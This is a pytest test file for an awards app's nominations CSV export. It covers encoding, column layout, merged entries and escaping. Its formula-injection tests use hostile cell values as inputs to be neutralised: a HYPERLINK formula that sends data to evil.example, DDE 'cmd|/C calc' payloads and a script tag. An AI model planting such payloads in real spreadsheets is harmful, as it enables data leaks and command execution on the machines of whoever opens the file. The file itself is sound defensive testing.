"""The CSV export: opens in Excel (UTF-8 with BOM), one column per question, no formulas, text kept exactly."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from awards_app.nominations.export import FIXED_COLUMNS, csv_filename, nominations_csv, safe_cell
from awards_app.nominations.models import ConsentState, NominationStatus
from awards_app.programme.models import Question
from tests.factories.nominations import make_nomination
from tests.factories.programme import make_category, make_edition

SUBMITTED = "Submitted (Europe/London)"


def parse(text: str) -> list[dict[str, str]]:
    """The rows of the CSV (after its byte order mark) as dictionaries keyed by header."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def header_of(text: str) -> list[str]:
    """The header row of the CSV."""
    return next(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.fixture
def edition(db_session, clock):
    """An edition with two categories that both ask 'What difference has it made?', one with a second question."""
    edition = make_edition()
    carers = make_category(edition, name="Carer of the Year")
    carers.questions.append(Question(prompt="How do they help others to self-manage?", word_limit=200, display_order=1))
    make_category(edition, name="Project of the Year")
    db_session.flush()
    return edition


def test_starts_with_a_byte_order_mark_and_encodes_as_utf8(edition):
    text = nominations_csv(edition)
    assert text.startswith("\ufeff")
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_headers_with_one_column_per_question(edition):
    assert header_of(nominations_csv(edition)) == [
        *FIXED_COLUMNS,
        SUBMITTED,
        "Carer of the Year: What difference has it made?",
        "How do they help others to self-manage?",  # used once: no prefix needed
        "Project of the Year: What difference has it made?",
    ]


def test_the_same_prompt_twice_in_one_category_gets_numbered(db_session, clock):
    edition = make_edition()
    category = make_category(edition, name="Idea of the Year")
    category.questions.append(Question(prompt="What difference has it made?", display_order=5))
    db_session.flush()
    assert header_of(nominations_csv(edition))[-2:] == [
        "Idea of the Year: What difference has it made? (1)",
        "Idea of the Year: What difference has it made? (2)",
    ]


def test_an_empty_edition_has_only_the_header(edition):
    assert parse(nominations_csv(edition)) == []


def test_one_row_per_nomination_with_answers_in_their_columns(edition, db_session):
    carers, projects = edition.categories
    morag = make_nomination(
        carers, "Morag Fraser", reference="SMA-AAA111", nominee_organisation="Fife Carers",
        status=NominationStatus.INELIGIBLE, status_reason="Not in Scotland", consent=ConsentState.GIVEN,
        consent_note="By phone to Jo", nominator_phone="01592 000000",
        submitted_at=datetime(2026, 6, 1, 12, 30, tzinfo=timezone.utc),
    )
    morag.answers[1].text = "She runs a peer group."
    make_nomination(projects, "Walk and Talk", reference="SMA-BBB222", nominee_email=None)
    db_session.flush()
    first, second = parse(nominations_csv(edition))
    assert first == {
        "Reference": "SMA-AAA111",
        "Merged into": "",
        "Category": "Carer of the Year",
        "Status": "Ineligible",
        "Status reason": "Not in Scotland",
        "Nominee name": "Morag Fraser",
        "Nominee organisation": "Fife Carers",
        "Nominee email": "morag@example.org",
        "Local authority": "Fife",
        "Consent": "Given",
        "Consent note": "By phone to Jo",
        "Nominator name": "Iain Nominator",
        "Nominator email": "iain@example.org",
        "Nominator relationship": "Colleague",
        "Nominator phone": "01592 000000",
        SUBMITTED: "2026-06-01 13:30",  # British Summer Time, as the edition's timezone says
        "Carer of the Year: What difference has it made?": "She made a real difference.",
        "How do they help others to self-manage?": "She runs a peer group.",
        "Project of the Year: What difference has it made?": "",
    }
    assert second["Reference"] == "SMA-BBB222"
    assert second["Nominee email"] == ""
    assert second["Project of the Year: What difference has it made?"] == "She made a real difference."
    assert second["Carer of the Year: What difference has it made?"] == ""


def test_merged_nominations_are_included_and_say_where_they_went(edition):
    carers = edition.categories[0]
    entry = make_nomination(carers, "Morag Fraser", reference="SMA-AAA111")
    make_nomination(carers, "Morag F.", reference="SMA-CCC333", merged_into_id=entry.id, nominator_name="Eilidh Ross")
    rows = {row["Reference"]: row for row in parse(nominations_csv(edition))}
    assert rows["SMA-AAA111"]["Merged into"] == ""
    assert rows["SMA-CCC333"]["Merged into"] == "SMA-AAA111"
    assert rows["SMA-CCC333"]["Nominator name"] == "Eilidh Ross"


def test_only_the_editions_own_nominations(edition, db_session):
    other = make_edition(year=2025, start=datetime(2025, 1, 13, 9, tzinfo=timezone.utc))
    make_nomination(make_category(other), "Someone Else", reference="SMA-OTHER1")
    make_nomination(edition.categories[0], "Morag Fraser", reference="SMA-AAA111")
    assert [row["Reference"] for row in parse(nominations_csv(edition))] == ["SMA-AAA111"]


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
        "+1",
        "-2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",  # a full-width equals sign
    ],
)
def test_formula_cells_come_out_as_text(edition, dangerous):
    carers = edition.categories[0]
    nomination = make_nomination(
        carers, dangerous, reference="SMA-AAA111", nominee_organisation=dangerous, nominator_name=dangerous,
        status_reason=dangerous, consent_note=dangerous,
    )
    nomination.answers[0].text = dangerous
    [row] = parse(nominations_csv(edition))
    for column in ("Nominee name", "Nominee organisation", "Nominator name", "Status reason", "Consent note",
                   "Carer of the Year: What difference has it made?"):
        assert row[column] == "'" + dangerous, column


def test_a_phone_number_starting_with_plus_stays_readable(edition):
    make_nomination(edition.categories[0], "Morag Fraser", nominator_phone="+44 7700 900123")
    [row] = parse(nominations_csv(edition))
    assert row["Nominator phone"] == "'+44 7700 900123"


def test_header_cells_are_protected_too(db_session, clock):
    edition = make_edition()
    category = make_category(edition, name="=Category")
    category.questions[0].prompt = "=cmd|'/C calc'!A0"
    db_session.flush()
    assert header_of(nominations_csv(edition))[-1] == "'=cmd|'/C calc'!A0"


@pytest.mark.parametrize("harmless", ["Morag", "a=b", "Plus+ Group", "email@example.org", "", "1-2-3", " =1"])
def test_harmless_cells_are_left_alone(harmless):
    assert safe_cell(harmless) == harmless


def test_safe_cell_handles_none_and_numbers():
    assert safe_cell(None) == ""
    assert safe_cell(-5) == "'-5"
    assert safe_cell(42) == "42"


def test_unicode_names_survive(edition):
    names = ["Seònaid Nic a' Phearsain", "Zoë Ó Briain", "Łukasz Wiśniewski", "陈美玲", "Amira 🌱 Garden"]
    for number, name in enumerate(names):
        make_nomination(edition.categories[0], name, reference=f"SMA-UNI{number:03d}", nominator_name=name)
    data = nominations_csv(edition).encode("utf-8")
    rows = parse(data.decode("utf-8"))
    assert [row["Nominee name"] for row in rows] == names
    assert [row["Nominator name"] for row in rows] == names


def test_line_breaks_commas_and_quotes_stay_inside_their_cell(edition):
    answer = 'First line, with a comma.\r\nSecond "quoted" line.\n\nAfter a blank line.'
    nomination = make_nomination(edition.categories[0], "Morag Fraser", reference="SMA-AAA111")
    nomination.answers[0].text = answer
    [row] = parse(nominations_csv(edition))
    assert row["Carer of the Year: What difference has it made?"] == (
        'First line, with a comma.\nSecond "quoted" line.\n\nAfter a blank line.'
    )
    assert row["Reference"] == "SMA-AAA111"  # the row did not break apart


def test_html_is_plain_text_in_the_csv(edition):
    html = '<script>alert("x")</script><b>Morag</b> & co'
    nomination = make_nomination(edition.categories[0], html, reference="SMA-AAA111")
    nomination.answers[0].text = html
    text = nominations_csv(edition)
    [row] = parse(text)
    assert row["Nominee name"] == html
    assert row["Carer of the Year: What difference has it made?"] == html
    assert "&lt;" not in text and "&amp;" not in text


def test_answers_of_other_nominations_never_leak_into_a_row(edition, db_session):
    carers = edition.categories[0]
    first = make_nomination(carers, "First", reference="SMA-AAA111")
    second = make_nomination(carers, "Second", reference="SMA-BBB222")
    first.answers[0].text, second.answers[0].text = "first answer", "second answer"
    second.answers.remove(second.answers[1])
    db_session.flush()
    rows = {row["Reference"]: row for row in parse(nominations_csv(edition))}
    assert rows["SMA-AAA111"]["Carer of the Year: What difference has it made?"] == "first answer"
    assert rows["SMA-BBB222"]["Carer of the Year: What difference has it made?"] == "second answer"
    assert rows["SMA-BBB222"]["How do they help others to self-manage?"] == ""


def test_filename_is_safe_and_dated_in_the_editions_timezone(edition):
    late_evening = datetime(2026, 6, 30, 23, 30, tzinfo=timezone.utc)  # already 1 July in Scotland
    assert csv_filename(edition, late_evening) == "nominations-2026-2026-07-01.csv"

